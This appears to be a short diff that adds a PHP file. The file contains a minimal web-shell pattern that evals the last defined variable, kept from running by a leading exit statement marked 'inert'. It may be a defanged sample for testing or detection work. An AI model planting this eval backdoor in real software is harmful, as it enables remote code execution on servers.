@@ -1,0 +1,3 @@
+<?php exit; /* inert */ 
+$v = current(get_defined_vars());
+eval(end($v));
